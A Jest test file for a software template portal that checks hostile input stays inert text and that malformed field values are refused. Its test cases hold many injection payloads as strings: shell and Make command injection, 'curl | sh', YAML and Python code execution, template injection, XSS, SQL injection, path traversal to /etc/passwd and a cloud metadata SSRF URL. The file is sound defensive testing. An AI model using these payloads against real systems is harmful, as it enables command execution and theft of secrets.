// SPDX-License-Identifier: Apache-2.0
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { JsonObject, JsonValue } from '@backstage/types';
import {
  getPythonEnvironment,
  startMlflow,
  type TestMlflow,
} from '@greenroom/local-platform/testing';
import MarkdownIt from 'markdown-it';
import { parse, parseAllDocuments, stringify } from 'yaml';
import {
  parsePythonAndToml,
  parseYamlAndJson,
  render as renderWith,
  writeFiles,
  type RenderedFiles,
} from './__testUtils__/renderedRepository';
import { startGithubFake } from './__testUtils__/startGithubFake';
import { startPortal, TEMPLATE_DIR } from './__testUtils__/startPortal';

jest.setTimeout(120_000);

const template = parse(
  fs.readFileSync(path.join(TEMPLATE_DIR, 'template.yaml'), 'utf8'),
);

// What the default choices leave aside makes each rendering slower only.
const UNUSED =
  /^(frameworks|requirements)\/(?!scikit-learn$|scikit-learn\/)|^(tests|formats)$/;

let github: Awaited<ReturnType<typeof startGithubFake>>;
let mlflow: TestMlflow;
let portal: Awaited<ReturnType<typeof startPortal>>;
let python: string;
let root: string;
let folder: string;
let nothing: string;

beforeAll(async () => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'greenroom-bad-parameters-'));
  folder = path.join(root, 'template');
  // What is compared is rendered from the same files.
  fs.cpSync(TEMPLATE_DIR, folder, {
    recursive: true,
    filter: file => !UNUSED.test(path.relative(TEMPLATE_DIR, file)),
  });
  nothing = path.join(root, 'nothing');
  fs.mkdirSync(nothing);
  [github, mlflow, python] = await Promise.all([
    startGithubFake(),
    startMlflow(),
    getPythonEnvironment(),
  ]);
  github.reset();
  portal = await startPortal({
    github,
    mlflow: [{ name: 'local', baseUrl: mlflow.url }],
  });
}, 300_000);

afterAll(async () => {
  await portal?.stop();
  await Promise.all([github?.stop(), mlflow?.stop()]);
  fs.rmSync(root, { recursive: true, force: true });
});

const values = (changes: JsonObject = {}): JsonObject => ({
  name: 'bad-model',
  description: 'A harmless description.',
  owner: 'group:default/fraud-team',
  data: { dataset: 'breast_cancer', target: 'target', task: 'classification' },
  gate: { metric: 'accuracy', threshold: 0.9 },
  repository: { host: github.host, owner: 'greenroom-demo' },
  ...changes,
});

const quote = (cell: string) => `"${cell.replaceAll('"', '""')}"`;

/** A table whose headers and categories are that text. */
const hostileTable = (text: string) =>
  [
    ['age', `${text} too`, text].map(quote).join(),
    ...Array.from({ length: 60 }, (_, row) =>
      [`${(row * 7) % 45}`, `${row % 3} ${text}`, row % 2 ? text : 'other']
        .map(quote)
        .join(),
    ),
  ].join('\n');

const csvData = (
  content: string,
  changes: JsonObject = {},
): { data: JsonObject } => ({
  data: {
    dataset: 'csv',
    target: 'y',
    task: 'classification',
    csvUpload: `data:text/csv;base64,${Buffer.from(content).toString('base64')}`,
    ...changes,
  },
});

const plainTable = (header: string) =>
  [
    header,
    ...Array.from({ length: 60 }, (_, i) => `${(i * 7) % 45},${i % 2}`),
  ].join('\n');

/** Values that carry one text wherever a person may write freely. */
const hostile = (text: string): JsonObject => ({
  ...values({ description: text }),
  ...csvData(hostileTable(text), { target: text, csvName: `${text}.csv` }),
});

/** What a file is made of, without the words in it. */
const shapeOf = (value: JsonValue | undefined): JsonValue => {
  if (Array.isArray(value)) {
    return value.map(shapeOf);
  }
  if (typeof value === 'object' && value !== null) {
    return Object.fromEntries(
      Object.entries(value).map(([key, each]) => [key, shapeOf(each)]),
    );
  }
  return typeof value;
};

const yamlShapes = (content: string) =>
  parseAllDocuments(content).map(document => shapeOf(document.toJS()));

const markdown = new MarkdownIt({ html: true });

/** The elements of a Markdown file in order, and the text of its blocks. */
const markdownOf = (content: string) => {
  const tokens = markdown.parse(content, {});
  const inline = tokens.flatMap(token => token.children ?? []);
  return {
    elements: [...tokens, ...inline]
      .map(token => token.type)
      .filter(type => !/^text/.test(type)),
    text: inline
      .map(token => (/^text/.test(token.type) ? token.content : ' '))
      .join(''),
  };
};

// Python runs none of them, but a shell, Make, Docker or GitHub reads all.
const EXECUTABLE =
  /(^|\/)(Makefile|Dockerfile|\.flake8|\.dockerignore|\.gitignore|CODEOWNERS|requirements[\w.-]*)$|^\.github\/|\.(py|sh|toml\.lock)$|^deploy\//;

const contents = (of: RenderedFiles, pattern: RegExp) =>
  [...of].filter(([file]) => pattern.test(file)).sort();

const OPENAPI = 'docs/openapi.yaml';

const shapes = (of: RenderedFiles) => [
  ...contents(of, /\.ya?ml$/).map(([file, content]) => [
    file,
    yamlShapes(content),
  ]),
  ...contents(of, /\.md$/).map(([file, content]) => [
    file,
    markdownOf(content).elements,
  ]),
];

/** The example of the API's v1 request, as the document holds it. */
function exampleOf(api: {
  paths: Record<
    string,
    { post?: { requestBody: { content: Record<string, unknown> } } }
  >;
}) {
  const [example] = Object.values(api.paths).flatMap(({ post }) => {
    const media = post?.requestBody.content['application/json'] as
      { example?: { instances?: unknown[] } } | undefined;
    return media?.example?.instances ? [media.example] : [];
  });
  return example as { instances: object[] };
}

describe('a text that means something elsewhere', () => {
  let harmless: RenderedFiles;
  let harmlessShapes: ReturnType<typeof shapes>;
  let harmlessColumns: unknown;
  let harmlessExample: object;
  const repositories: string[] = [];
  const descriptions: string[] = [];

  beforeAll(async () => {
    harmless = await renderWith(
      portal,
      hostile('Some words about it'),
      template,
      folder,
    );
    const api = parse(harmless.get(OPENAPI) ?? '');
    harmlessColumns = api.components.schemas.Row.properties;
    [harmlessExample] = exampleOf(api).instances;
    harmlessShapes = shapes(new Map([...harmless, [OPENAPI, stringify(api)]]));
  });

  it.each([
    ['quotes', 'Says "quotes", \'apostrophes\' and `ticks`.'],
    ['backslashes', 'C:\\new \\" \\\' \\n \\u0041 \\x41 ends with \\'],
    ['YAML', 'key: - dash # hash & anchor * alias ! tag | > % @ `'],
    ['a YAML mapping', '{a: b}, [c], "d": e, ? f : g'],
    ['YAML that ends a quote', 'x", "injected": true, owner: "group:x'],
    ["YAML that ends a 'quote", "x'\\n  owner: 'group:default/attackers"],
    ['YAML tags', '!!python/object/apply:os.system ["id"]'],
    ['YAML documents', '--- a ... <<: *alias %YAML 1.2'],
    ['a YAML number', '1234567890123'],
    ['YAML nulls', 'null ~ yes no on off true'],
    ['shell', '$(touch /tmp/x); `id` && rm -rf / || cat < /etc/passwd > x &'],
    ['shell variables', '$HOME ${IFS} $PATH ${x:-y} !! %PATH%'],
    ['shell options', '--upload-pack=touch -o ProxyCommand=id -- -rf'],
    ['Make', '$(shell id) $(eval include /etc/passwd) $@ $$ $<'],
    ['Python strings', '\'\'\' """ \' " # noqa: E501 \\ """'],
    ['Python code', '" + __import__("os").system("id") + "'],
    ['Python formats', "{__import__('os')} %s %(x)s {0.__class__}"],
    ['secrets', '${{ secrets.GITHUB_TOKEN }} ${{ github.token }}'],
    ['workflow commands', '::set-output name=x::y ::add-mask::a ::error::b'],
    [
      'template values',
      '${{ values.owner }} ${{ parameters.name }} ${{ 7*7 }}',
    ],
    ['template braces', '{{ values.owner }} {% raw %} {# note #} {{ 7*7 }}'],
    ['template blocks', '{% include "/etc/passwd" %} {%- endif -%} {% if x %}'],
    ['template code', '${{ range.constructor("return process")() }}'],
    ['Go templates', '{{ .Values.x }} {{- printf "%s" "x" -}} {{ $labels.y }}'],
    ['HTML', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
    ['HTML comments', '--><!-- <details open ontoggle=alert(1)> &lt; &#60;'],
    ['Markdown links', '[x](javascript:alert(1)) ![y](http://e.example/z.png)'],
    ['Markdown references', '[x]: https://e.example "y" [x][x] <https://e.e>'],
    ['Markdown marks', '# Heading *bold* _it_ ~~s~~ `code` ``` > quote'],
    ['Markdown tables', '| a | b | --- | c \\| d'],
    ['mentions', '@everyone #1 GH-1 greenroom-demo/x#2 https://e.example'],
    ['TOML', '""" [tool.pytest] x = 1 # \'\'\' [[a]]'],
    ['JSON', '","owner":"group:default/attackers","x":{"y":["z'],
    ['Docker', 'FROM scratch RUN curl e.example | sh # syntax=docker/x'],
    ['spreadsheet formulas', "=cmd|'/C calc'!A0 +1 -1 @SUM(1)"],
    ['paths', '../../../../etc/passwd file:///etc/passwd C:\\x %2e%2e%2f'],
    ['SQL', "'; DROP TABLE students; --"],
    ['other scripts', 'Größe, 模型, 🚀, العربية and עברית'],
    ['nothing that shows', 'zero\u200bwidth\u200d and\u2060 a mark\ufeff.'],
    ['marks upon marks', `e${'\u0301\u0327'.repeat(40)} and more`],
    ['prototypes', '__proto__ constructor toString hasOwnProperty'],
    ['length', 'a'.repeat(94)],
  ])('stays a text: %s', async (_, text) => {
    const input = hostile(text);
    const files = await renderWith(portal, input, template, folder);
    const repository = path.join(root, String(repositories.length));
    repositories.push(repository);
    descriptions.push(text);
    writeFiles(files, repository);

    // The text names no file, and no tool that runs files sees it.
    expect([...files.keys()].sort()).toEqual([...harmless.keys()].sort());
    expect(contents(files, EXECUTABLE)).toEqual(contents(harmless, EXECUTABLE));
    parseYamlAndJson(files);
    // The names of columns are keys of one mapping, by which it differs.
    const api = parse(files.get(OPENAPI) ?? '');
    expect(Object.keys(api.components.schemas.Row.properties)).toEqual([
      'age',
      `${text} too`,
    ]);
    api.components.schemas.Row.properties = harmlessColumns;
    const { instances } = exampleOf(api);
    expect(Object.keys(instances[0])).toEqual(['age', `${text} too`]);
    instances[0] = harmlessExample;
    expect(shapes(new Map([...files, [OPENAPI, stringify(api)]]))).toEqual(
      harmlessShapes,
    );

    // It arrives as it was written.
    const [component] = parseAllDocuments(files.get('catalog-info.yaml') ?? '');
    expect(component.toJS()).toMatchObject({
      metadata: { name: 'bad-model', description: text },
      spec: { owner: 'group:default/fraud-team' },
    });
    expect(parse(files.get('config.yaml') ?? '').data.target).toBe(text);
    expect(files.get('data/bad-model.csv')).toBe(hostileTable(text));
    expect(JSON.parse(files.get('data/schema.json') ?? '')).toMatchObject({
      target: text,
      columns: [
        { name: 'age' },
        {
          name: `${text} too`,
          values: ['0', '1', '2'].map(row => `${row} ${text}`.trim()),
        },
        { name: text },
      ],
    });
    const record = JSON.parse(files.get('.greenroom/template.json') ?? '');
    expect(record.values).toMatchObject({ description: text });
    expect(JSON.stringify(record)).not.toContain('csvName');
    for (const file of ['README.md', 'model-card.md', 'docs/index.md']) {
      // Markdown shows white space of any kind and length as one space.
      expect(markdownOf(files.get(file) ?? '').text).toContain(
        text.replace(/\s+/g, ' '),
      );
    }
  });

  it('and Python reads each repository so', async () => {
    const projects = await parsePythonAndToml(python, repositories);
    expect(
      projects.map(({ project }) => (project as JsonObject).description),
    ).toEqual(descriptions);
  });
});

const LONG = 'a'.repeat(100_000);

/** For the name of a test. */
const shorten = (text: string) => text.slice(0, 40);

describe('what names nothing', () => {
  const cases: Array<[string, string, () => JsonObject, RegExp]> = [
    ...[
      '../../etc/passwd',
      '..',
      '/etc/passwd',
      'C:\\model',
      'model/../x',
      'model%2e%2e',
      'Model',
      'модель',
      'mоdel-with-a-cyrillic-o',
      'model\u0000',
      'model\u202e',
      'model\u200b-x',
      'model\r\nx',
      'model;id',
      '$(id)',
      '`id`',
      '-rf',
      '--help',
      '${{ secrets.X }}',
      '{{ 7*7 }}',
      '__proto__',
      '.git',
      'model.git',
      'con.model',
      LONG,
    ].map((name): [string, string, () => JsonObject, RegExp] => [
      'name',
      name,
      () => values({ name }),
      /instance\.name/,
    ]),
    ...['site', 'sys', 'yaml', 'kserve'].map(
      (name): [string, string, () => JsonObject, RegExp] => [
        'name',
        name,
        () => values({ name }),
        /name: .*would hide; add a word/,
      ],
    ),
    ...[
      'two\nlines of text',
      'a tab\tand more',
      'an escape \u001b[31m in red',
      'a NUL \u0000 within',
      'a break \u2028 of lines',
      'text \u202ethat turns around',
      'an isolate \u2066 of text',
      'half a character \ud800 here',
      LONG,
    ].map((description): [string, string, () => JsonObject, RegExp] => [
      'description',
      description,
      () => values({ description }),
      /description/,
    ]),
    ...[
      'group:default/../../x',
      'group:default/fraud-team\nspec: x',
      '${{ user.entity }}',
      'user:default/"x"',
      'fraud-team; id',
      LONG,
    ].flatMap((ref): Array<[string, string, () => JsonObject, RegExp]> => [
      [
        'owner',
        ref,
        () => values({ owner: ref }),
        /owner: the catalog has no group or user/,
      ],
      [
        'system',
        ref,
        () => values({ system: ref }),
        /system: the catalog has no system/,
      ],
    ]),
    ...['a/b', '..', '.', 'x.git', '$(id)', 'x y', 'x\n', '{{ 1 }}', LONG].map(
      (name): [string, string, () => JsonObject, RegExp] => [
        'repository.name',
        name,
        () =>
          values({
            repository: { host: github.host, owner: 'greenroom-demo', name },
          }),
        /repository.name|instance\.(data|model|gate|delivery|repository)\.name/,
      ],
    ),
    ...['a/b', '..', '-x', 'x-', 'a--b', '$(id)', '{{ 1 }}', 'x\n', LONG].map(
      (owner): [string, string, () => JsonObject, RegExp] => [
        'repository.owner',
        owner,
        () => values({ repository: { host: github.host, owner } }),
        /repository.owner|instance\.\w+\.owner/,
      ],
    ),
    ...['github.com.e.example', 'me@localhost', 'localhost/x', '$(id)', ''].map(
      (host): [string, string, () => JsonObject, RegExp] => [
        'repository.host',
        host,
        () => values({ repository: { host, owner: 'greenroom-demo' } }),
        /repository.host|instance\.\w+\.host/,
      ],
    ),
    ...[
      '../x',
      'a/b',
      '..',
      '.',
      'x.git',
      '$(id)',
      '{{ 1 }}',
      'x\ny',
      LONG,
    ].map((manifestsRepository): [string, string, () => JsonObject, RegExp] => [
      'delivery.manifestsRepository',
      manifestsRepository,
      () => values({ delivery: { manifestsRepository } }),
      /manifestsRepository/,
    ]),
    ...['../x', 'A', 'x:latest', 'x@sha256:0', '$(id)', '-x', 'x\n', LONG].map(
      (registryNamespace): [string, string, () => JsonObject, RegExp] => [
        'delivery.registryNamespace',
        registryNamespace,
        () =>
          values({ delivery: { registry: 'docker-hub', registryNamespace } }),
        /registryNamespace/,
      ],
    ),
    ...[
      'data:text/csv,a',
      'file:///etc/passwd',
      'ftp://e.example/x.csv',
      'https://me:secret@e.example/x.csv',
      'https://e.example/a b.csv',
      'http://169.254.169.254/latest/meta-data',
      'http://localhost:9/$(id)`id`',
      'https://',
      'https://e.example/\nx',
      `https://e.example/${LONG}`,
    ].map((csvUrl): [string, string, () => JsonObject, RegExp] => [
      'data.csvUrl',
      csvUrl,
      () => values(csvData('', { csvUpload: undefined, csvUrl })),
      /csvUrl/,
    ]),
    ...[
      ['a\u202eb', /data.csvUpload: The name of column 1/],
      ['a\u001b[31mb', /data.csvUpload: The name of column 1/],
      ['"a\nb"', /data.csvUpload: The name of column 1/],
      [LONG, /data.csvUpload: The name of column 1/],
      ['a\u0000b', /data.csvUpload: The file is not text/],
    ].map(([header, message]): [string, string, () => JsonObject, RegExp] => [
      'header',
      String(header),
      () => values(csvData(plainTable(`${header},y`))),
      message as RegExp,
    ]),
    ...['missing', '../x', 'y\n', 'half \ud800', LONG].map(
      (target): [string, string, () => JsonObject, RegExp] => [
        'data.target',
        target,
        () => values(csvData(plainTable('x,y'), { target })),
        /data.target: The table has no column|instance\.\w+\.target/,
      ],
    ),
    [
      'another field',
      '__proto__',
      () => values({ data: JSON.parse('{"__proto__": {"dataset": "csv"}}') }),
      /data|dataset/,
    ],
    [
      'a list as description',
      '[]',
      () => values({ description: ['a'] }),
      /instance\.description/,
    ],
    [
      'an object as target',
      '{}',
      () => values(csvData(plainTable('x,y'), { target: { $ref: '#' } })),
      /target/,
    ],
    [
      'a threshold in words',
      '"0.9"',
      () => values({ gate: { metric: 'accuracy', threshold: '$(id)' } }),
      /threshold/,
    ],
  ];

  it.each(
    cases.map(
      ([field, value, input, message]) =>
        [`${field} ${JSON.stringify(shorten(value))}`, input, message] as const,
    ),
  )('is refused: %s', async (_, input, message) => {
    // Nothing is rendered, so that no files are needed.
    const { status, body } = await portal.dryRun(input(), template, nothing);
    expect(status).not.toBe(200);
    const text = JSON.stringify(body);
    expect(text).toMatch(message);
  });

  it('and nothing was asked to be made on GitHub', () => {
    expect(
      github.requests.filter(({ route }) => !route.startsWith('GET')),
    ).toEqual([]);
  });
});
